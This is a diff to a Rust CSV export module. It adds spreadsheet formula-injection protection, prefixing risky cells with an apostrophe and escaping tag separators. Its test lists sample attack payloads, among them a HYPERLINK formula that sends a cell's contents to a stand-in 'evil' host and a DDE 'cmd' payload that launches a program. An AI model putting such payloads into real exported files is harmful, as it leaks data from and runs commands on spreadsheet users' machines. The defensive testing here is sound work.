@@ -1,5 +1,7 @@
-//! CSV with the same columns as the JSON items: nested values flattened
-//! (`tags` as `key=value;key=value`, lists joined by `;`).
+//! CSV with the same columns as the JSON items: nested values flattened (`tags` as
+//! `key=value;key=value` with `;`, `=` and `\` inside a key or value escaped by `\`, lists
+//! joined by `;`), and safe to open in a spreadsheet: a text cell that starts with `=`, `+`,
+//! `-`, `@`, TAB or CR gets a leading `'`, so it is never run as a formula (OWASP's rule).
 
 use serde::Serialize;
 use serde_json::Value;
@@ -31,15 +33,55 @@ fn csv_error(e: csv::Error) -> AppError {
     AppError::Internal(format!("csv: {e}"))
 }
 
+/// Whether a spreadsheet would read a cell starting so as a formula.
+fn formula_like(text: &str) -> bool {
+    matches!(text.as_bytes().first(), Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'))
+}
+
+/// `text` made safe to open: a leading `'` when it would read as a formula.
+pub fn neutralize(text: &str) -> std::borrow::Cow<'_, str> {
+    if formula_like(text) {
+        std::borrow::Cow::Owned(format!("'{text}"))
+    } else {
+        std::borrow::Cow::Borrowed(text)
+    }
+}
+
+/// Appends `text` to `out` with `;`, `=` and `\` escaped by `\` (a `tags` key or value).
+fn push_escaped(out: &mut String, text: &str) {
+    for c in text.chars() {
+        if matches!(c, ';' | '=' | '\\') {
+            out.push('\\');
+        }
+        out.push(c);
+    }
+}
+
 fn cell(value: &Value) -> String {
     match value {
         Value::Null => String::new(),
-        Value::String(s) => s.clone(),
+        Value::String(s) => neutralize(s).into_owned(),
         Value::Bool(b) => b.to_string(),
         Value::Number(n) => n.to_string(),
-        Value::Array(items) => items.iter().map(cell).collect::<Vec<_>>().join(";"),
+        Value::Array(items) => {
+            let joined = items
+                .iter()
+                .map(|v| v.as_str().map_or_else(|| v.to_string(), str::to_owned))
+                .collect::<Vec<_>>()
+                .join(";");
+            neutralize(&joined).into_owned()
+        }
         Value::Object(map) => {
-            map.iter().map(|(k, v)| format!("{k}={}", cell(v))).collect::<Vec<_>>().join(";")
+            let mut out = String::new();
+            for (i, (k, v)) in map.iter().enumerate() {
+                if i > 0 {
+                    out.push(';');
+                }
+                push_escaped(&mut out, k);
+                out.push('=');
+                push_escaped(&mut out, v.as_str().unwrap_or_default());
+            }
+            neutralize(&out).into_owned()
         }
     }
 }
@@ -65,8 +107,13 @@ pub struct Cells<'a> {
 }
 
 impl Cells<'_> {
-    /// A text cell.
+    /// A text cell (neutralized if it would read as a formula).
     pub fn text(&mut self, value: &str) {
+        self.raw(&neutralize(value));
+    }
+
+    /// A cell written as it is: numbers, times, names Polo makes.
+    fn raw(&mut self, value: &str) {
         if self.error.is_none()
             && let Err(e) = self.writer.write_field(value)
         {
@@ -85,19 +132,19 @@ impl Cells<'_> {
         let mut scratch = std::mem::take(&mut self.scratch);
         scratch.clear();
         let _ = write!(scratch, "{value}");
-        self.text(&scratch);
+        self.raw(&scratch);
         self.scratch = scratch;
     }
 
     /// An RFC 3339 time, as JSON writes it.
     pub fn time(&mut self, value: Option<time::OffsetDateTime>) {
         match value.map(|t| t.format(&time::format_description::well_known::Rfc3339)) {
-            Some(Ok(text)) => self.text(&text),
-            _ => self.text(""),
+            Some(Ok(text)) => self.raw(&text),
+            _ => self.raw(""),
         }
     }
 
-    /// `key=value;key=value`.
+    /// `key=value;key=value`, with `;`, `=` and `\` escaped.
     pub fn pairs<'k>(&mut self, pairs: impl IntoIterator<Item = (&'k str, &'k str)>) {
         let mut scratch = std::mem::take(&mut self.scratch);
         scratch.clear();
@@ -105,9 +152,9 @@ impl Cells<'_> {
             if i > 0 {
                 scratch.push(';');
             }
-            scratch.push_str(k);
+            push_escaped(&mut scratch, k);
             scratch.push('=');
-            scratch.push_str(v);
+            push_escaped(&mut scratch, v);
         }
         self.text(&scratch);
         self.scratch = scratch;
@@ -160,5 +207,24 @@ mod tests {
         ];
         let csv = to_csv(&["id", "tags", "n", "none", "list"], items).unwrap();
         assert_eq!(csv, "id,tags,n,none,list\n\"a,b\",\"k=v;x=\"\"y\"\"\",3,,p;q\n");
+    }
+
+    #[test]
+    fn formulas_never_reach_a_spreadsheet() {
+        for (raw, safe) in [
+            ("=HYPERLINK(\"https://evil/?\"&A1)", "'=HYPERLINK(\"https://evil/?\"&A1)"),
+            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\t=1+1", "'\t=1+1"),
+            ("\r=1", "'\r=1"),
+            ("plain", "plain"),
+            ("a=b", "a=b"),
+        ] {
+            assert_eq!(neutralize(raw), safe, "{raw:?}");
+        }
+        let item = serde_json::json!({ "tags": { "=evil": "x", "k": "a;b=c\\d" }, "owner": "+1" });
+        let csv = to_csv(&["tags", "owner"], [item]).unwrap();
+        assert_eq!(csv, "tags,owner\n\\=evil=x;k=a\\;b\\=c\\\\d,'+1\n");
     }
 }
